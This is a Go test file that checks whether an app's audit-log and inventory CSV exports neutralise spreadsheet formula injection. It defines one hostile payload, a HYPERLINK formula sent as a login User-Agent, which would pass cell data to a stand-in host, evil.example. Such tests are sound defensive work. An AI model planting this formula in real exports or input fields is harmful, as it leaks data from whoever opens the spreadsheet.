package localapp

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/cloudcensus/cloudcensus/functions/internal/safecsv"
)

// formulaAgent is a user agent a spreadsheet would run as a formula.
const formulaAgent = `=HYPERLINK("http://evil.example/?x="&A1,"Click for your report")`

// TestFailedSignInUserAgentIsNeutralisedInTheAuditExport: no account is
// needed to put text in the audit log, so its export must not carry a
// formula to the admin's spreadsheet.
func TestFailedSignInUserAgentIsNeutralisedInTheAuditExport(t *testing.T) {
	name, _, _ := newUser(t, "user")
	body, _ := json.Marshal(map[string]string{"username": name, "password": "Wrong-Passw0rd-123"})
	req, _ := http.NewRequest("POST", server.URL+"/api/auth/login", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("User-Agent", formulaAgent)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusUnauthorized {
		t.Fatalf("wrong password: %d, want 401", res.StatusCode)
	}
	_, j, file := asAdmin(t).job("/api/audit/export", map[string]string{})
	if j.Status != "succeeded" {
		t.Fatalf("audit export: %+v", j)
	}
	rows, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
	if err != nil {
		t.Fatalf("audit export does not read as CSV: %v", err)
	}
	agent := -1
	for i, h := range rows[0] {
		if h == "userAgent" {
			agent = i
		}
	}
	found := false
	for _, r := range rows[1:] {
		if r[agent] == "'"+formulaAgent {
			found = true
		}
		for _, cell := range r {
			if safecsv.Dangerous(cell) {
				t.Errorf("a cell a spreadsheet runs: %q", cell)
			}
		}
	}
	if !found {
		t.Errorf("no audit row with the failed sign-in's user agent neutralised (%q)", "'"+formulaAgent)
	}
	if strings.Contains(string(file), ","+formulaAgent) {
		t.Errorf("the raw formula starts a cell of the export")
	}
}

// TestInventoryExportNeutralisesHostileNames: the hostile scan's task
// name is not in the inventory, but the CSV of every export reads back
// with no cell a spreadsheet runs.
func TestInventoryExportNeutralisesHostileNames(t *testing.T) {
	d := hostileScan(t)
	_, j, file := asAdmin(t).job("/api/tasks/export", map[string]string{"id": d.ID, "format": "csv"})
	if j.Status != "succeeded" {
		t.Fatalf("csv export: %+v", j)
	}
	rows, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("csv export: %d rows, %v", len(rows), err)
	}
	for _, r := range rows {
		for _, cell := range r {
			if safecsv.Dangerous(cell) {
				t.Errorf("a cell a spreadsheet runs: %q", cell)
			}
		}
	}
}
